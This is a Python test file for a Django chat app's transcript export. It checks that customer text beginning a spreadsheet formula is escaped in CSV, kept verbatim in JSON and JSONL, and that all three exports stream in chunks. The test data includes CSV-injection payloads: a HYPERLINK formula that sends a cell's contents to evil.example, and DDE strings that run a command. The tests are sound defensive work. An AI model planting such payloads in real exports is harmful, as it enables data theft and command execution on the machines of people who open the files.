"""Transcript exports: customer text never becomes a live spreadsheet formula, and files stream."""

import csv
import io
import json

import pytest
from django.test import AsyncClient

from chat.conversations import append_message, current_conversation
from chat.identity import open_visitor
from chat.models import Author, Message, Visitor
from chat.records import EXPORT_FIELDS

# What a customer (or the business's identity payload) may type; each would run as a formula in Excel/Sheets.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["Where is my order?", "a=b+c", "'already quoted", "1-2", ""]


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.fixture
def conversation(widget):
    visitor = open_visitor(widget, identity=None)
    Visitor.objects.filter(pk=visitor.pk).update(external_id="=1+2", name="@evil")
    conversation = current_conversation(visitor, create=True)
    for text in FORMULAS + HARMLESS:
        append_message(conversation, Author.CUSTOMER, text or "placeholder")
    Message.objects.filter(conversation=conversation, text="placeholder").update(text="")
    Message.objects.filter(conversation=conversation).update(sentiment_label="negative", sentiment_value=-0.75)
    return conversation


def test_it_neutralises_every_formula_cell(alice, conversation):
    rows = _csv(alice.client.get("/console/export/", {"format": "csv"}))
    texts = [row["text"] for row in rows]
    assert texts == ["'" + text for text in FORMULAS] + HARMLESS
    assert {row["visitor_external_id"] for row in rows} == {"'=1+2"}


def test_no_cell_of_the_csv_starts_a_formula(alice, conversation):
    rows = _csv(alice.client.get("/console/export/"))
    cells = [value for row in rows for key, value in row.items() if key != "sentiment_value"]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_numbers_stay_numbers(alice, conversation):
    # Our own floats are not attacker text: a negative score is written as a number, not quoted.
    rows = _csv(alice.client.get("/console/export/"))
    assert {float(row["sentiment_value"]) for row in rows} == {-0.75}


def test_json_and_jsonl_keep_the_text_exactly(alice, conversation):
    document = json.loads(b"".join(alice.client.get("/console/export/", {"format": "json"}).streaming_content))
    assert [row["text"] for row in document["data"]] == FORMULAS + HARMLESS
    lines = b"".join(alice.client.get("/console/export/", {"format": "jsonl"}).streaming_content).splitlines()
    assert [json.loads(line)["text"] for line in lines] == FORMULAS + HARMLESS
    assert set(json.loads(lines[0])) == set(EXPORT_FIELDS)


@pytest.mark.parametrize("export_format,content_type", [("csv", "text/csv"), ("json", "application/json"),
                                                         ("jsonl", "application/jsonl")])
def test_every_export_streams(alice, conversation, export_format, content_type):
    response = alice.client.get("/console/export/", {"format": export_format})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"].endswith(f'.{export_format}"')


def test_an_export_longer_than_one_chunk_holds_every_message_once(alice, conversation, monkeypatch):
    monkeypatch.setattr("chat.records.EXPORT_CHUNK", 4)
    rows = _csv(alice.client.get("/console/export/"))
    assert [int(row["seq"]) for row in rows] == list(range(1, len(FORMULAS + HARMLESS) + 1))


@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_export_is_pulled_a_chunk_at_a_time(alice, conversation, monkeypatch):
    # Daphne serves the site: given a plain iterator Django would read the whole file into one list first.
    monkeypatch.setattr("chat.records.EXPORT_CHUNK", 4)
    client = AsyncClient()
    await client.aforce_login(alice.user)
    response = await client.get("/console/export/", {"format": "jsonl"})
    assert response.status_code == 200 and response.is_async
    chunks = [chunk async for chunk in response.streaming_content]
    assert [len(chunk.splitlines()) for chunk in chunks] == [4, 4, 3]
    assert [json.loads(line)["text"] for chunk in chunks for line in chunk.splitlines()] == FORMULAS + HARMLESS
